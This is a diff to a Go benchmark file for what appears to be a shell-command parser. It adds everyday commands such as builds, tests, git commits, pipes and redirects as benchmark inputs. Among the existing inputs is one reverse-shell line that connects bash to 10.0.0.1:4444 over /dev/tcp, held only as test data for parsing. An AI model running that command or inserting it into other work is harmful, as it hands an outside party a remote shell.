@@ -21,6 +21,14 @@ var benchCommands = []struct{ name, src string }{
 	{"heredoc", "cat > notes.md <<'EOF'\n# Notes\nsome text\nEOF\n"},
 	{"revshell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
 	{"xargs", "git ls-files | xargs -n1 -I{} wc -l {}"},
+	// Everyday lists and pipelines of plain words.
+	{"cd-and-test", "cd web && npm test"},
+	{"cat-grep", "cat a | grep b"},
+	{"build-and-test", "go build ./... && go test ./..."},
+	{"ls-head", "ls -la | head -20"},
+	{"add-and-commit", `git add -A && git commit -m "x"`},
+	{"or-list", "make || echo failed; echo done"},
+	{"redirect", "go test ./... > out.txt 2>&1"},
 }
 
 func BenchmarkParse(b *testing.B) {
@@ -36,7 +44,7 @@ func BenchmarkParse(b *testing.B) {
 
 // BenchmarkParseFullOnly shows what the fast path saves on plain commands.
 func BenchmarkParseFullOnly(b *testing.B) {
-	for _, bc := range benchCommands[:3] {
+	for _, bc := range benchCommands {
 		b.Run(bc.name, func(b *testing.B) {
 			b.ReportAllocs()
 			for b.Loop() {
